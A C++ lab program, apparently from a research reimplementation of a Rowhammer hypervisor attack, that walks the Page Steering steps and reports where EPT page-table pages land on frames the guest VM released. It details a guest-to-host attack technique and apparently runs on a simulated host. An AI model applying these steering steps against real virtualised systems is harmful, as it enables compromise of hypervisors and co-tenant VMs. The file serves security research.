/**
 * @file
 * Example: Page Steering step by step (Section 4.2, Figure 1).
 *
 * Walks the three steering steps against a live host, printing the
 * free-list state the attacker is manipulating after each one, and
 * finishes with a host-side census showing EPT pages sitting on the
 * frames the VM "voluntarily" released.
 *
 * Usage: steering_lab [seed] [host-gib]
 * An argument that does not parse whole as a number exits 2.
 */

#include <cstdio>

#include "base/parse_number.h"
#include "hyperhammer/hyperhammer.h"

using namespace hh;

namespace {

void
printFreeListState(sys::HostSystem &host, const char *moment)
{
    const mm::PageTypeInfo info = host.pageTypeInfo();
    std::printf("  [%s]\n", moment);
    std::printf("    unmovable: %6llu pages below order 9, %4llu "
                "order-9+ blocks\n",
                static_cast<unsigned long long>(info.pagesBelowOrder(
                    mm::MigrateType::Unmovable, 9)),
                static_cast<unsigned long long>(
                    info.blockCount(mm::MigrateType::Unmovable, 9)
                    + info.blockCount(mm::MigrateType::Unmovable, 10)));
    std::printf("    movable:   %6llu pages below order 9, %4llu "
                "order-9+ blocks\n",
                static_cast<unsigned long long>(info.pagesBelowOrder(
                    mm::MigrateType::Movable, 9)),
                static_cast<unsigned long long>(
                    info.blockCount(mm::MigrateType::Movable, 9)
                    + info.blockCount(mm::MigrateType::Movable, 10)));
    std::printf("    noise pages (attack metric): %llu\n",
                static_cast<unsigned long long>(host.noisePages()));
}

} // namespace

int
main(int argc, char **argv)
{
    uint64_t seed = 3;
    uint64_t gib = 4;
    if (argc > 1)
        base::parseNumber(argv[0], "seed", argv[1], seed);
    if (argc > 2)
        base::parseNumber(argv[0], "host-gib", argv[2], gib);

    sys::SystemConfig config =
        sys::SystemConfig::s1(seed).withMemory(gib * 1_GiB);
    sys::HostSystem host(config);

    vm::VmConfig vm_cfg;
    vm_cfg.bootMemBytes = gib * 1_GiB / 16;
    vm_cfg.virtioMemRegionSize = gib * 1_GiB;
    vm_cfg.virtioMemPlugged = gib * 1_GiB * 12 / 16;
    auto machine = host.createVm(vm_cfg);

    std::printf("== Page Steering lab (%llu GiB host, %llu MiB "
                "guest) ==\n\n",
                static_cast<unsigned long long>(gib),
                static_cast<unsigned long long>(
                    machine->memorySize() / 1_MiB));
    printFreeListState(host, "after VM boot");

    // STEP 1: exhaust noise pages via the vIOMMU.
    attack::SteeringConfig steer_cfg;
    steer_cfg.exhaustMappings = static_cast<uint32_t>(
        60'000ull * gib / 16);
    attack::PageSteering steering(*machine, host.clock(), steer_cfg);
    std::printf("\nSTEP 1: mapping one guest page at %u IOVAs, "
                "2 MiB apart (one IOPT page each)...\n",
                steer_cfg.exhaustMappings);
    const uint64_t mappings = steering.exhaustNoisePages();
    std::printf("  created %llu mappings; IOPT pages now held: "
                "%llu\n",
                static_cast<unsigned long long>(mappings),
                static_cast<unsigned long long>(
                    machine->vfio()->ioptPageCount()));
    printFreeListState(host, "after exhaustion");

    // STEP 2: voluntarily release two "vulnerable" sub-blocks.
    std::printf("\nSTEP 2: voluntary virtio-mem releases (no "
                "hypervisor request)...\n");
    machine->memDriver().setSuppressAutoPlug(true);
    auto &device = machine->memDevice_();
    std::vector<Pfn> released_blocks;
    for (virtio::SubBlockId sb : {19ull, 77ull}) {
        auto hpa = machine->debugTranslate(device.subBlockGpa(sb));
        if (machine->memDriver()
                .unplugSpecific(device.subBlockGpa(sb))
                .ok()) {
            released_blocks.push_back(hpa->pfn());
            std::printf("  released sub-block %llu (host PFN %llu, "
                        "order-9 MIGRATE_UNMOVABLE)\n",
                        static_cast<unsigned long long>(sb),
                        static_cast<unsigned long long>(hpa->pfn()));
        }
    }
    printFreeListState(host, "after releases");

    // STEP 3: spray EPTEs by executing the idling function.
    std::printf("\nSTEP 3: executing the idling function on every "
                "remaining hugepage (NX-hugepage demotions)...\n");
    const uint64_t demotions =
        steering.sprayEptes(machine->memorySize(), {});
    std::printf("  %llu demotions -> %llu EPT pages in the system\n",
                static_cast<unsigned long long>(demotions),
                static_cast<unsigned long long>(
                    machine->mmu().eptPageCount()));
    printFreeListState(host, "after spray");

    // Census: what sits on the released frames now?
    std::printf("\nResult: host-side census of the released "
                "blocks\n");
    for (Pfn block : released_blocks) {
        unsigned ept = 0;
        unsigned kernel = 0;
        unsigned free_pages = 0;
        for (uint64_t i = 0; i < kPagesPerHugePage; ++i) {
            const mm::PageFrame &frame = host.buddy().frame(block + i);
            if (frame.free)
                ++free_pages;
            else if (frame.use == mm::PageUse::EptPage)
                ++ept;
            else if (frame.use == mm::PageUse::KernelData)
                ++kernel;
        }
        std::printf("  block at PFN %llu: %u EPT pages, %u split "
                    "metadata, %u still free\n",
                    static_cast<unsigned long long>(block), ept,
                    kernel, free_pages);
    }
    std::printf("\nEvery EPT page on a released frame is a page the "
                "VM can potentially corrupt with Rowhammer.\n");
    return 0;
}
